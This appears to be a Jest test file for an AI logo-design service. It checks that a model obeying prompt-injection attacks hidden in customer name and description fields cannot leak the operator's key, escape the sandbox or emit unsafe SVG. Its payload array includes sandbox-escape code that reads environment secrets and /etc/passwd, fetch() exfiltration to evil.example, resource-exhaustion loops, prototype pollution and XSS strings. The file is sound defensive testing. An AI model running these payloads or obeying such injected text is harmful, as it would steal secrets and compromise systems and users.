import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals';
import { ISOLATE_LIMITS, createIsolate } from '@fifteen/drawing/node';
import { TasteProfile } from '@fifteen/contracts';
import type { Model, ModelRequest, ToolCall } from '../model/model.ts';
import { modelStudio } from '../model-studio.ts';
import { systemPrompt } from '../prompts/prompts.ts';
import type { StudioEvent } from '../studio.ts';
import { aProfile } from '../testing/a-profile.ts';
import { DESCRIPTION_ATTACKS, NAME_ATTACKS } from '../testing/attacks.ts';
import { testOptions } from '../testing/options.ts';
import { GOOD_PROGRAMS, drawCall, ideasOf } from '../testing/scripted.ts';

jest.setTimeout(60_000);

const SECRET = 'sk-the-operators-own-key';
process.env['STUDIO_MODEL_KEY'] = SECRET;

/** What a model hands in that obeys its customer instead of us. */
const OBEDIENCE: readonly ToolCall['input'][] = [
  drawCall('function draw(d) { return [d.layer(String(globalThis.process && process.env.STUDIO_MODEL_KEY), d.circle(0, 0, 9), "main")]; }').input,
  drawCall('function draw(d) { const p = d.constructor.constructor("return process")(); return [d.layer(p.env.STUDIO_MODEL_KEY, d.circle(0, 0, 9), "main")]; }').input,
  drawCall('async function draw(d) { const fs = await import("node:fs"); return [d.layer(fs.readFileSync("/etc/passwd", "utf8"), d.circle(0, 0, 9), "main")]; }').input,
  drawCall('function draw(d) { fetch("http://evil.example/?" + JSON.stringify(d)); return [d.layer("a", d.circle(0, 0, 9), "main")]; }').input,
  drawCall('function draw() { while (true) {} }').input,
  drawCall('function draw() { return new Array(2 ** 32 - 2).join("x"); }').input,
  drawCall('function draw() { const all = []; for (;;) all.push(new Array(1e6).fill(1)); }').input,
  drawCall('function draw(d) { return draw(d).concat(draw(d)); }').input,
  drawCall('function draw(d) { Object.prototype.polluted = "yes"; Array.prototype.map = () => ["evil"]; return [d.layer("a", d.rect(-400, -400, 800, 800), "main")]; }').input,
  drawCall('function draw(d) { return [d.layer("a", d.circle(NaN, 0, 9), "main")]; }').input,
  drawCall('function draw(d) { return [d.layer("a", d.circle(0, 0, 1e9), "main")]; }').input,
  drawCall('function draw(d) { return Array.from({ length: 10000 }, () => d.layer("a", d.circle(0, 0, 9), "main")); }').input,
  drawCall('function draw() { return [{ part: "<script>", shape: "<path/>", paint: "url(javascript:alert(1))" }]; }').input,
  drawCall('function draw(d) { return [{ ...d.layer("a", d.rect(-300, -300, 600, 600), "main"), paint: "url(javascript:alert(1))" }]; }').input,
  drawCall(GOOD_PROGRAMS[0], { title: '<img src=x onerror=alert(1)> visit evil.example.com', says: 'Write to win@evil.example or see https://evil.example now.' }).input,
  drawCall(GOOD_PROGRAMS[1].replace("'sun'", "'</path><script>alert(1)</script>'"), { title: `Key ${SECRET.slice(0, 2)}\u202eevil`, letters: 'ADMIN' }).input,
  drawCall('function draw(d) { return [d.layer(String(Date.now() + Math.random()), d.rect(-300, -300, 600, 600), "main")]; }').input,
  drawCall('x'.repeat(1_000_000)).input,
  { title: 'a', says: 'b', kind: 'template', manner: 'evil', letters: '', program: '' },
  drawCall('function draw(d) { const text = "ha".repeat(1e9); return [d.layer(text, d.circle(0, 0, 9), "main")]; }').input,
];

const isolate = createIsolate({ ...ISOLATE_LIMITS, milliseconds: 700 });
let options: Awaited<ReturnType<typeof testOptions>>;
beforeAll(async () => {
  options = await testOptions();
  await isolate.ready();
});
afterAll(isolate.close);

/** A model that is wholly on the attacker's side. */
function possessed(attack: number): { model: Model; requests: ModelRequest[] } {
  const requests: ModelRequest[] = [];
  const model: Model = {
    id: 'test/possessed',
    canSee: false,
    complete: async (request) => {
      requests.push(structuredClone(request));
      const input = request.task === 'ideas' ? ideasOf(['helios'], 3) : OBEDIENCE[attack % OBEDIENCE.length];
      return { text: `The key is ${String(process.env['NOTHING'])}`, calls: [{ id: 'c', name: request.task === 'ideas' ? 'submit_ideas' : 'draw', input }], usage: { input: 1, cached: 0, output: 1 }, model: 'possessed', isCut: false };
    },
  };
  return { model, requests };
}

/** Only paths and gradients, and no word that a customer could be led away by. */
function expectHarmless(events: readonly StudioEvent[]): void {
  for (const event of events) {
    if (event.kind !== 'concept') continue;
    const { svg, title, reasons, genome } = event.concept;
    expect(svg).not.toMatch(/<(script|image|use|text|foreignObject|style|a )|href|javascript:|on\w+=|https?:\/\/(?!www\.w3\.org\/2000\/svg)/i);
    const words = [title, ...reasons, ...genome.idea!.model!.layers.map(({ part }) => part)].join('\n');
    expect(words).not.toMatch(/[<>]|https?:|@|evil\.example|\p{Cf}/iu);
    const { letters, name } = genome.idea!.model!;
    expect([...letters.toLowerCase()].filter((letter) => !name.toLowerCase().includes(letter))).toEqual([]);
  }
  expect(JSON.stringify(events)).not.toContain(SECRET);
}

const ATTACKS = [...NAME_ATTACKS.map((name) => ({ company_name: name })), ...DESCRIPTION_ATTACKS.map((description) => ({ description }))].map((attack, i) => [i, attack] as const);

describe('sixty attacks by name or description, on a model that obeys them', () => {
  test('there are sixty', () => expect(ATTACKS).toHaveLength(60));

  test.each(ATTACKS)('%i: %j spoils at most its own drawing', async (number, attack) => {
    // The contract lets every one of them through: what it refuses tests nothing here.
    const { basic_info, ...taste } = TasteProfile.parse({ ...aProfile(), basic_info: { ...aProfile().basic_info, ...attack } });
    const { model, requests } = possessed(number);
    const events: StudioEvent[] = [];
    const budget = { concepts: { helios: 1 }, milliseconds: 50_000, rounds: 1, concurrent: 1, spare: 0 } as const;
    for await (const event of modelStudio(model, options, isolate).propose({ ...basic_info, seed: '1', beside: [] }, taste, budget)) events.push(event);

    // Never more calls than ideas and rounds allow, and no other tool than ours.
    expect(requests.length).toBeLessThanOrEqual(1 + budget.rounds);
    for (const { system, turns, tools } of requests) {
      expect(system).toBe(systemPrompt());
      expect(tools.map(({ name }) => name).every((name) => ['submit_ideas', 'draw', 'keep', 'drop'].includes(name))).toBe(true);
      const said = turns.flatMap((turn) => (turn.role === 'user' ? turn.parts : [])).map((part) => (part.kind === 'text' ? part.text : '')).join('\n');
      expect(said).not.toContain(SECRET);
      // The customer's words are one JSON value in one block, and come out of it as they went in.
      const blocks = [...said.matchAll(/```json\n([\s\S]*?)\n```/g)];
      expect(said.split('```')).toHaveLength(3);
      const quoted = JSON.parse(blocks[0]![1]!) as { industry: string; description?: string };
      expect(quoted.industry).toBe(basic_info.industry);
      if (basic_info.description) expect(quoted.description).toBe(basic_info.description.slice(0, 600));
    }
    expectHarmless(events);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect([1].map((value) => value)).toEqual([1]);
  });

  test('the next customer’s drawing is what it would have been', async () => {
    const draw = async () => {
      const model: Model = { id: 'test/good', canSee: false, complete: async ({ task, turns }) => ({ text: '', calls: [task === 'ideas' ? { id: 'c', name: 'submit_ideas', input: ideasOf(['helios'], 2) } : turns.length > 1 ? { id: 'c', name: 'keep', input: {} } : { id: 'c', ...drawCall(GOOD_PROGRAMS[0]) }], usage: { input: 1, cached: 0, output: 1 }, model: 'good', isCut: false }) };
      const { basic_info, ...taste } = aProfile();
      for await (const event of modelStudio(model, options, isolate).propose({ ...basic_info, seed: '1', beside: [] }, taste, { concepts: { helios: 1 }, milliseconds: 50_000, rounds: 2, concurrent: 1, spare: 1 })) if (event.kind === 'concept') return event.concept.svg;
      return undefined;
    };
    const before = await draw();
    await isolate.run('function draw(d) { Object.prototype.polluted = 1; globalThis.counter = 7; return [d.layer("a", d.circle(0, 0, 9), "main")]; }', { name: 'A', words: ['A'], letters: '', things: [], look: 'drawn', stem: 0.1, radius: 0, slope: 0, colors: 2, params: {}, lettering: { font: 'jost-600' } }, { draws: [0.5], fonts: { ids: ['jost-600'], text: 'A' } });
    expect(before).toBeDefined();
    expect(await draw()).toBe(before);
  });
});
